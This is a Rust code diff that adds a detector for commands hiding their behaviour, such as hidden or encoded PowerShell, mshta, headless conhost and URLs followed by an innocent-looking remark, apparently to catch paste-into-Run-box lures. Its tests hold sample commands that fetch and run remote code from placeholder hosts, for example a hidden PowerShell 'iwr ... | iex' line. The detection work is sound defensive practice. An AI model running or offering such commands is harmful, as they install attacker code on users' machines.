@@ -26,6 +26,19 @@ pub(super) fn shell(folded: &str) -> bool {
     loader || piped
 }
 
+/// A command that hides what it does: no window, an encoded text, a page run as a program, a remark behind it that
+/// passes for something harmless. Nobody honest needs one.
+pub(crate) fn hides(folded: &str) -> bool {
+    let program = |name: &str| words::has(folded, name);
+    let switch = |names: &[&str]| folded.split_whitespace().any(|w| names.contains(&w));
+    shell(folded)
+        && (program("mshta")
+            || program("conhost") && folded.contains("headless")
+            || (program("powershell") || program("pwsh"))
+                && (folded.contains("hidden") || switch(&["-enc", "-e", "-ec", "-encodedcommand"]))
+            || folded.contains("://") && folded.split_once(" # ").is_some_and(|(_, remark)| !remark.trim().is_empty()))
+}
+
 /// The way to the Run box, or to pasting into it: `Windows key + R`, `Win+X`, `Ctrl + V` then Enter.
 pub(super) fn run_box(folded: &str) -> bool {
     if !folded.contains('+') && !folded.contains("키") {
@@ -65,6 +78,9 @@ mod tests {
         assert!(shell("conhost --headless mshta https://x.example/cam # verification id 1"));
         assert!(shell("curl -fssl https://x.example/fix.sh | bash"));
         assert!(!shell("you will write powershell scripts and use curl in our pipelines"));
+        assert!(hides("conhost --headless mshta https://x.example/cam # verification id 1"));
+        assert!(hides("powershell -w hidden -c iwr https://x.example/a | iex"));
+        assert!(!hides("curl -fssl https://sh.rustup.example | sh") && !hides("powershell -file .\\build.ps1"));
         assert!(run_box("1. press the windows key + r") && !run_box("windows and r skills"));
         assert!(project("git clone https://bitbucket.org/x/y, yarn, yarn start, log in"));
         assert!(project("just npm install and npm start, then look at it"));
